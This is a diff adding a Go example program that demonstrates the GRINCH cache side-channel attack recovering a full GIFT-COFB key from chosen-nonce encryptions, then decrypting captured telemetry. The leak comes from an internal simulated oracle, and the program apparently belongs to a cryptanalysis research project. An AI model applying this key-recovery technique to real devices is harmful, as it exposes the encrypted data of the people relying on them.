@@ -1,0 +1,73 @@
+// AEAD attack: GRINCH against GIFT-COFB, the NIST LWC finalist built on
+// GIFT-128 (the paper's motivation: "7 [candidates] are based on GIFT
+// cipher"). COFB encrypts the nonce before anything else — Y₀ = E_K(N)
+// — so an attacker who requests encryptions with chosen nonces is
+// handing the block cipher chosen plaintexts, and the S-box cache leak
+// of that first call carries the key. GIFT-128 consumes 64 key bits per
+// round, so two attacked rounds recover the whole AEAD key.
+//
+//	go run ./examples/aead_attack
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"grinch/internal/bitutil"
+	"grinch/internal/cofb"
+	"grinch/internal/core"
+	"grinch/internal/oracle"
+)
+
+func main() {
+	// --- The victim: an IoT gateway sealing telemetry with GIFT-COFB. ---
+	key := [16]byte{0x4c, 0x57, 0x43, 0x2d, 0x66, 0x69, 0x6e, 0x61,
+		0x6c, 0x69, 0x73, 0x74, 0x21, 0x21, 0x21, 0x21}
+	gateway := cofb.New(key)
+
+	nonce := [cofb.NonceSize]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}
+	telemetry := []byte(`{"sensor":"turbine-7","rpm":3612,"temp":81.4}`)
+	sealed := gateway.Seal(nil, nonce, telemetry, []byte("v2"))
+	fmt.Printf("gateway seals %d bytes of telemetry (+%d-byte tag)\n\n", len(telemetry), cofb.TagSize)
+
+	// --- The attacker: co-resident malware that submits encryption
+	// requests with chosen nonces and probes the S-box table while the
+	// mode computes Y₀ = E_K(N). The channel below is that leak: each
+	// Collect models one Seal call on a crafted nonce. ---
+	channel, err := oracle.New128FromTracer(gateway, oracle.Config{
+		ProbeRound: 1,
+		Flush:      true,
+		LineWords:  1,
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	attacker, err := core.NewAttacker128(channel, core.Config{Seed: 2024})
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	res, err := attacker.RecoverKey128()
+	if err != nil {
+		log.Fatalf("attack failed: %v", err)
+	}
+
+	kb := res.Key.Bytes()
+	fmt.Printf("victim AEAD key: %x\n", key)
+	fmt.Printf("recovered key:   %x\n", kb)
+	fmt.Printf("sealed nonces consumed: %d (two attacked rounds — GIFT-128\n", res.Encryptions)
+	fmt.Printf("spends 64 key bits per round, vs four rounds for GIFT-64)\n\n")
+
+	if kb != key {
+		log.Fatal("key mismatch")
+	}
+
+	// --- Endgame: the attacker decrypts the captured telemetry. ---
+	stolen := cofb.NewFromWord(bitutil.Word128FromBytes(key))
+	opened, err := stolen.Open(nil, nonce, sealed, []byte("v2"))
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("decrypted capture: %s\n", opened)
+	fmt.Println("full AEAD key recovered through the cache side channel.")
+}
